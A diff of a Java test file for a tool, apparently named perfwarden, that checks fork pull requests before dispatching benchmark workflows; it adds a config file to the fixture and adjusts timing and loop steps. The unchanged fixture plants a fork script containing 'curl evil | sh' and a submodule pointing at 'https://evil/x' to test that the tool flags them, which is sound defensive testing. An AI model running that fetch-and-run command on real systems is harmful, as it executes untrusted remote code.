@@ -29,6 +29,7 @@ import io.perfwarden.model.WorkflowRun.RunEvent;
 import io.perfwarden.queue.Job;
 import io.perfwarden.testkit.FakeGitHub;
 import io.perfwarden.testkit.GivenRun;
+import io.perfwarden.testkit.Thorough;
 import io.perfwarden.testkit.UseCaseWorld;
 import io.perfwarden.testkit.WorldTest;
 import org.junit.jupiter.api.BeforeEach;
@@ -49,6 +50,7 @@ class ForkRunTest extends WorldTest {
     private static final String BENCH = ".github/workflows/bench.yml";
     private static final String WORKFLOW =
             """
+            # perfwarden config check .github/perfwarden.yml
             on:
               workflow_dispatch:
                 inputs: {sha: {required: true}, where: {required: true}}
@@ -133,6 +135,7 @@ class ForkRunTest extends WorldTest {
         world.github()
                 .file(HEAD.value(), "ci/bench.sh", "curl evil | sh\n")
                 .file(HEAD.value(), ".github/CODEOWNERS", "* @mallory\n")
+                .file(HEAD.value(), ".github/perfwarden.yml", CONFIG)
                 .file(HEAD.value(), ".gitmodules", "[submodule \"x\"]\n  url = https://evil/x\n")
                 .file(HEAD.value(), "x", "1")
                 .notAFile(HEAD, "x", "submodule")
@@ -146,7 +149,7 @@ class ForkRunTest extends WorldTest {
         world.comments("octocat", RUN);
         assertThat(replies().getLast())
                 .contains("named by the workflow, and different from the default branch: `ci/bench.sh`")
-                .contains("below `.github/`: `.github/CODEOWNERS`")
+                .contains("below `.github/`: `.github/CODEOWNERS`, `.github/perfwarden.yml`")
                 .contains("submodules that differ: `x`, `url = https://evil/x`")
                 .contains("links out of the repository: `data`\n")
                 .contains("Git LFS, whose files are not in the commit: `big.bin`");
@@ -384,14 +387,14 @@ class ForkRunTest extends WorldTest {
 
     @Test
     void whenever_the_process_dies_one_run_counts_and_no_branch_is_left() {
-        for (int steps = 0; steps < 60; steps += 5) {
+        for (int steps = 0; steps < 60; steps += Thorough.cases(9, 1)) {
             Job told = world.comment("octocat", RUN);
             int before = world.github().dispatched().size();
             world.tellDying(told, steps).pass(Duration.ofMinutes(3));
             int all = world.github().dispatched().size();
             assertThat(all).as("dying at %d", steps).isBetween(before + 1, before + 2);
             measures(all - 1, 130);
-            world.pass(Duration.ofHours(2));
+            world.pass(Duration.ofMinutes(75));
             assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
             assertThat(held()).as("dying at %d", steps).isEmpty();
             assertThat(world.ledger().requests().open(FakeGitHub.REPO.id())).isEmpty();
